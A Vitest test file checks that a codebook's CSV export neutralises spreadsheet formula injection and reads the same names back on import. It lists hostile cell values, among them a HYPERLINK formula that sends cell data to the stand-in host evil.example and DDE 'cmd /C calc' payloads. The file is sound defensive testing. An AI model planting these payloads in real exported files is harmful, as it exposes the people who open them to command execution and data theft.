import { describe, expect, it } from 'vitest';
import { codebookToCsv, importCodebookCsv } from '../../../src/shared/domain/codebook';
import { parseCsv } from '../../../src/shared/domain/csv';
import type { Code } from '../../../src/shared/model/project';

const code = (id: string, name: string, extra: Partial<Code> = {}): Code => ({
  id,
  name,
  description: '',
  colour: '#4e79a7',
  parentId: null,
  questionId: null,
  followsQuestion: false,
  quickKey: null,
  ...extra,
});

/** Names a spreadsheet would run as formulas, or whose lead it would strip first. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=2+2',
  '＝1+1',
  "'=già protetto",
];

describe('codebook CSV export (CSV injection)', () => {
  it('writes no cell that a spreadsheet would read as a formula', () => {
    const codes = HOSTILE.map((name, i) =>
      code(`c${i}`, name, { description: i === 0 ? '=WEBSERVICE("http://x")' : '' }),
    );
    codes.push(code('child', 'figlio', { parentId: 'c0' }));
    const csv = codebookToCsv(codes, []);
    const cells = parseCsv(csv, ';').flatMap((record) => record.cells);
    for (const cell of cells) expect(cell, cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    // The child's parent path starts with the hostile name, and is neutralised the same way.
    expect(cells).toContain(`'${HOSTILE[0]}`);
  });

  it('reads its own export back to the very same names and descriptions', () => {
    const codes = HOSTILE.map((name, i) => code(`c${i}`, name.trim() || name));
    codes.push(code('child', '-figlio', { parentId: 'c1', description: '@nota' }));
    const csv = codebookToCsv(codes, []);
    const back = importCodebookCsv([], csv, [], () => crypto.randomUUID()).codes;
    const names = (list: Code[]) => list.map((c) => c.name.replace(/\s+/g, ' ').trim()).sort();
    expect(names(back)).toEqual(names(codes));
    const child = back.find((c) => c.name === '-figlio')!;
    expect(child.description).toBe('@nota');
    expect(back.find((c) => c.id === child.parentId)!.name).toBe(HOSTILE[1]);
  });
});
